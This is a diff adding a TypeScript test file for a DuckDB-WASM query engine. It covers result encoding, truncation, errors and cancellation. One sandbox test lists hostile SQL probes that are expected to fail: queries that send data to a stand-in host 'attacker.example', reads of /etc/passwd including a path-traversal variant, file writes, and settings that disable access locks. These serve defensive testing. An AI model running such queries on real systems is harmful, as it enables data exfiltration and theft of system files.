@@ -1,0 +1,96 @@
+import { tableFromIPC } from 'apache-arrow';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { batchRowCount } from '../../../src/engine/core';
+import { EngineError } from '../../../src/engine/errors';
+import { createNodeEngine, type NodeEngine } from '../../support/node-engine';
+
+let engine: NodeEngine;
+beforeAll(async () => {
+  engine = await createNodeEngine();
+});
+
+describe('engine core on DuckDB-WASM', () => {
+  it('answers a query with Arrow IPC bytes', async () => {
+    const result = await engine.core.query("SELECT 42::INTEGER AS answer, '生态' AS word");
+    expect(result.ipc).toBeInstanceOf(Uint8Array);
+    const table = tableFromIPC(result.ipc);
+    expect(table.toArray()[0]?.toJSON()).toEqual({ answer: 42, word: '生态' });
+    expect(result.truncated).toBe(false);
+  });
+
+  it('caps a large result at maxRows and says it was truncated', async () => {
+    const result = await engine.core.query('SELECT i FROM range(100000) t(i)', { maxRows: 3000 });
+    const table = tableFromIPC(result.ipc);
+    expect(result.truncated).toBe(true);
+    expect(table.numRows).toBeGreaterThanOrEqual(3000);
+    expect(table.numRows).toBeLessThan(100000);
+    const full = await engine.core.query('SELECT i FROM range(1000) t(i)', { maxRows: 3000 });
+    expect(full.truncated).toBe(false);
+    expect(tableFromIPC(full.ipc).numRows).toBe(1000);
+  });
+
+  it('reads the row count of a record batch message from its header', async () => {
+    const { ipc } = await engine.core.query('SELECT i FROM range(7) t(i)');
+    const table = tableFromIPC(ipc);
+    expect(table.numRows).toBe(7);
+    // Find the batch message after the schema message: schema length prefix tells where it ends.
+    const view = new DataView(ipc.buffer, ipc.byteOffset);
+    const schemaLength = view.getInt32(4, true);
+    expect(batchRowCount(ipc.subarray(8 + schemaLength))).toBe(7);
+  });
+
+  it('turns a bad statement into an error that carries the SQL', async () => {
+    const sql = 'SELEC 1';
+    const error = await engine.core.query(sql).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(EngineError);
+    expect((error as EngineError).info).toMatchObject({ kind: 'sql', name: 'Parser Error', sql });
+    // and the engine keeps working
+    expect(await engine.rows('SELECT 1::INTEGER AS x')).toEqual([{ x: 1 }]);
+  });
+
+  it('cancels a running query and keeps answering afterwards', async () => {
+    const running = engine.core.query('SELECT count(*) FROM range(2000000000) t(i) WHERE i % 7 = 3', { id: 'slow' });
+    const settled = running.catch((e: unknown) => e);
+    await new Promise((r) => setTimeout(r, 50));
+    expect(engine.core.cancel('slow')).toBe(true);
+    const error = await settled;
+    expect(error).toBeInstanceOf(EngineError);
+    expect((error as EngineError).info.kind).toBe('cancelled');
+    expect(await engine.rows('SELECT 2::INTEGER AS x')).toEqual([{ x: 2 }]);
+  });
+
+  it('cancels a queued query before it starts', async () => {
+    const first = engine.core.query('SELECT count(*) FROM range(20000000) t(i)');
+    const queued = engine.core.query('SELECT 1', { id: 'queued' }).catch((e: unknown) => e);
+    expect(engine.core.cancel('queued')).toBe(true);
+    await first;
+    expect(((await queued) as EngineError).info.kind).toBe('cancelled');
+    expect(engine.core.cancel('unknown')).toBe(false);
+  });
+
+  it('is locked down: no network, no files, no extensions, no SET after the lock', async () => {
+    const probes = [
+      "SELECT * FROM read_csv('https://attacker.example/?d=' || 'x')",
+      "SET VARIABLE leak = 'secret'; SELECT * FROM read_csv('https://attacker.example/' || getvariable('leak'))",
+      "SELECT * FROM read_csv('/etc/passwd')",
+      "SELECT * FROM read_csv('/lab/../etc/passwd')",
+      "ATTACH 'other.db' AS other",
+      "COPY (SELECT 1) TO '/tmp/out.csv'",
+      "SELECT * FROM glob('/*')",
+      'LOAD httpfs',
+      // INSTALL is a no-op in DuckDB-WASM (nothing is fetched); the LOAD after it must still fail.
+      'INSTALL httpfs; LOAD httpfs',
+      'SET enable_external_access = true',
+      'SET lock_configuration = false',
+      "SET allowed_directories = ['/']",
+      "SELECT * FROM read_parquet('/lab/x.parquet')",
+    ];
+    for (const sql of probes) {
+      const error = await engine.core.exec(sql).then(
+        () => null,
+        (e: unknown) => e,
+      );
+      expect(error, sql).toBeInstanceOf(EngineError);
+    }
+  });
+});
